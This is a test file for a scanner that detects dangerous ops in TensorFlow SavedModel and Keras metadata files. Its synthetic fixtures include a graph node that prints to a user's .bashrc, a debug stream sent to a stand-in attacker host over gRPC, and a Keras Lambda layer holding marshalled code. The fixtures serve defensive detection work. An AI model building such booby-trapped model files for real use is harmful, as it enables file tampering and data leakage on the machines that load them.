"""TensorFlow SavedModel / GraphDef / keras_metadata.pb: ops read with the wire reader, no TensorFlow needed."""

from __future__ import annotations

import base64
import json
import marshal
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from anzhi.develop.models._protobuf import ProtoError, group_fields, iter_fields, read_varint
from anzhi.develop.models._registry import ANALYZERS, Analysis, ScanContext
from anzhi.develop.models._result import ModelFormat, Verdict, worst_verdict
from anzhi.develop.models._savedmodel import analyze_savedmodel, looks_like_savedmodel_pb
from anzhi.develop.models._source import BytesSource, FileSource, ScanLimits


def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def vf(number: int, value: int) -> bytes:
    return varint(number << 3) + varint(value)


def lf(number: int, payload: bytes | str) -> bytes:
    data = payload.encode() if isinstance(payload, str) else payload
    return varint(number << 3 | 2) + varint(len(data)) + data


def attr(name: str, s: str | None = None, strings: list[str] | None = None) -> bytes:
    value = lf(2, s) if s is not None else lf(1, b"".join(lf(2, x) for x in strings or []))
    return lf(5, lf(1, name) + lf(2, value))


def node(name: str, op: str, *attrs: bytes) -> bytes:
    return lf(1, lf(1, name) + lf(2, op) + lf(3, "input:0") + b"".join(attrs))


def fn_node(name: str, op: str, *attrs: bytes) -> bytes:
    return lf(1, name) + lf(2, op) + b"".join(attrs)


def graph(*parts: bytes, functions: list[bytes] | None = None) -> bytes:
    lib = lf(2, b"".join(functions)) if functions else b""
    return b"".join(parts) + lib + lf(4, vf(1, 1700))


def function_def(name: str, *nodes: bytes) -> bytes:
    return lf(1, lf(1, lf(1, name)) + b"".join(lf(3, n) for n in nodes))


def saved_model(graph_def: bytes) -> bytes:
    info = lf(1, lf(1, "") + lf(4, "serve") + lf(5, "2.15.0"))
    signature = lf(5, lf(1, "serving_default") + lf(2, b""))
    return vf(1, 1) + lf(2, info + lf(2, graph_def) + signature)


BENIGN_GRAPH = graph(
    node("x", "Placeholder"), node("w", "VarHandleOp"), node("mm", "MatMul"), node("relu", "Relu"),
    node("saver_filename", "Placeholder"), node("StatefulPartitionedCall_1", "StatefulPartitionedCall"),
    node("save/SaveV2", "SaveV2"), node("save/RestoreV2", "RestoreV2"),
    node("print", "PrintV2", attr("output_stream", "stderr")),
    functions=[function_def("__inference__traced_save_123", fn_node("SaveV2", "SaveV2"),
                            fn_node("MergeV2Checkpoints", "MergeV2Checkpoints")),
               function_def("__inference__traced_restore_456", fn_node("RestoreV2", "RestoreV2")),
               function_def("__inference_serving_default_789", fn_node("dense/MatMul", "MatMul"))],
)


def scan(data: bytes) -> Analysis:
    return analyze_savedmodel(BytesSource("saved_model.pb", data), ScanContext(limits=ScanLimits()))


def verdict(analysis: Analysis) -> Verdict:
    return worst_verdict([r.verdict for r in analysis.reasons])


def rules(analysis: Analysis) -> set[str]:
    return {r.rule_id for r in analysis.reasons}


def test_registered() -> None:
    assert ANALYZERS[ModelFormat.SAVEDMODEL] is analyze_savedmodel


def test_benign_savedmodel_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "saved_model.pb"
    path.write_bytes(saved_model(BENIGN_GRAPH))
    analysis = analyze_savedmodel(FileSource(path), ScanContext(limits=ScanLimits()))
    assert analysis.reasons == []
    meta = analysis.metadata
    assert meta["kind"] == "savedmodel" and meta["tags"] == ["serve"] and meta["tensorflow_version"] == "2.15.0"
    assert meta["signatures"] == ["serving_default"] and meta["functions"] == 3 and meta["nodes"] == 13
    assert "MatMul" in meta["ops"]


def test_frozen_graphdef_is_walked() -> None:
    analysis = scan(BENIGN_GRAPH)
    assert analysis.reasons == [] and analysis.metadata["kind"] == "graphdef"
    assert rules(scan(graph(node("x", "Placeholder"), node("leak", "ReadFile")))) == {"MODEL-442"}


def test_file_read_in_serving_graph_is_dangerous() -> None:
    analysis = scan(saved_model(graph(node("x", "Placeholder"), node("read", "ReadFile"),
                                      node("ls", "MatchingFiles"))))
    assert verdict(analysis) == Verdict.DANGEROUS and rules(analysis) == {"MODEL-442"}
    read = next(r for r in analysis.reasons if r.detail["op"] == "ReadFile")
    assert read.location == "node read" and "ReadFile" in read.message


def test_python_and_file_write_in_functions() -> None:
    analysis = scan(saved_model(graph(node("x", "Placeholder"), functions=[
        function_def("__inference_call_1", fn_node("py", "EagerPyFunc"), fn_node("w", "WriteFile")),
        function_def("__inference_call_2", fn_node("py", "EagerPyFunc"))])))
    assert rules(analysis) == {"MODEL-440", "MODEL-441"}
    py = next(r for r in analysis.reasons if r.rule_id == "MODEL-440")
    assert py.detail["count"] == 2 and "(2 nodes)" in py.message
    assert py.location == "function __inference_call_1 node py"


def test_print_to_file_and_debug_streams() -> None:
    analysis = scan(graph(node("p", "PrintV2", attr("output_stream", "file:///home/u/.bashrc")),
                          node("d", "DebugIdentity", attr("debug_urls", strings=["grpc://attacker:6064"])),
                          node("d2", "DebugIdentityV2", attr("debug_urls", strings=["file:///tmp/dump"]))))
    assert rules(analysis) == {"MODEL-441", "MODEL-444"}
    assert any("file:///home/u/.bashrc" in r.message for r in analysis.reasons)


def test_checkpoint_ops_outside_saver_are_review() -> None:
    analysis = scan(graph(node("x", "Placeholder"), node("stash", "SaveV2")))
    assert rules(analysis) == {"MODEL-443"} and verdict(analysis) == Verdict.REVIEW


def test_custom_and_shell_like_ops() -> None:
    custom = scan(graph(node("g", "Addons>GeluV2")))
    assert rules(custom) == {"MODEL-445"} and verdict(custom) == Verdict.REVIEW
    shell = scan(graph(node("s", "ShellCommand")))
    assert rules(shell) == {"MODEL-446"} and verdict(shell) == Verdict.DANGEROUS
    assert shell.reasons[0].confidence == "low"
    assert scan(graph(node("t", "TPUExecute"), node("c", "ConfigureDistributedTPU"))).reasons == []


def test_network_and_io_ops() -> None:
    assert rules(scan(graph(node("r", "TryRpc")))) == {"MODEL-444"}
    assert rules(scan(graph(node("r", "TFRecordDatasetV2")))) == {"MODEL-443"}
    proto = scan(graph(node("d", "DecodeProtoV2", attr("descriptor_source", "/etc/descriptors.bin"))))
    assert rules(proto) == {"MODEL-443"}


def keras_metadata(*objects: dict[str, object]) -> bytes:
    out = b""
    for i, obj in enumerate(objects):
        out += lf(1, vf(2, i + 1) + lf(3, f"root.layer-{i}") + lf(4, "_tf_keras_layer") + lf(5, json.dumps(obj)))
    return out


def test_keras_metadata_lambda_is_dangerous() -> None:
    code = base64.b64encode(marshal.dumps((lambda x: x).__code__)).decode()
    blob = keras_metadata({"name": "dense", "class_name": "Dense", "config": {"name": "dense", "units": 2}},
                          {"name": "lambda", "class_name": "Lambda",
                           "config": {"name": "lambda", "function": [code, None, None], "function_type": "lambda"}})
    assert looks_like_savedmodel_pb(blob[:512])
    analysis = scan(blob)
    assert analysis.metadata["kind"] == "keras-metadata" and analysis.metadata["keras_objects"] == 2
    assert rules(analysis) == {"MODEL-430"} and verdict(analysis) == Verdict.DANGEROUS
    clean = scan(keras_metadata({"name": "dense", "class_name": "Dense", "config": {"name": "dense"}}))
    assert clean.reasons == []


def test_malformed_protobuf_is_invalid() -> None:
    blob = saved_model(BENIGN_GRAPH)
    for cut in (5, len(blob) // 2, len(blob) - 1):
        analysis = scan(blob[:cut])
        assert "MODEL-492" in rules(analysis) and verdict(analysis) == Verdict.INVALID, cut
    assert rules(scan(b"\x0a\xff\xff\xff\xff\x0f")) == {"MODEL-492"}
    assert rules(scan(b"\x07garbage")) == {"MODEL-492"}
    assert scan(b"").reasons == []


def test_looks_like_savedmodel_pb() -> None:
    assert looks_like_savedmodel_pb(saved_model(BENIGN_GRAPH)[:64])
    assert looks_like_savedmodel_pb(BENIGN_GRAPH[:64])
    onnx_head = vf(1, 1) + lf(2, "pytorch") + lf(3, "2.1")
    assert not looks_like_savedmodel_pb(onnx_head)
    assert not looks_like_savedmodel_pb(b"\x0a\x05hello world")
    assert not looks_like_savedmodel_pb(b"GGUF\x03\x00\x00\x00")
    assert not looks_like_savedmodel_pb(b"")


def test_wire_reader_rejects_lies() -> None:
    assert read_varint(b"\xac\x02", 0, 2) == (300, 2)
    for bad in (b"\x80" * 11, b"\x0a\x05abc", b"\x00\x01", b"\x0b\x14", b"\x0b", b"\x0e"):
        try:
            list(iter_fields(bad))
        except ProtoError:
            continue
        raise AssertionError(bad)
    grouped = group_fields(vf(1, 7) + lf(2, "x") + b"\x1b" + vf(1, 1) + b"\x1c" + b"\x25\x01\x00\x00\x00")
    assert grouped[1] == [7] and bytes(grouped[2][0]) == b"x" and grouped[4] == [1]  # type: ignore[arg-type]


@settings(max_examples=200, deadline=500)
@given(st.binary(max_size=256))
def test_fuzz(data: bytes) -> None:
    assert isinstance(scan(data), Analysis)
    looks_like_savedmodel_pb(data)
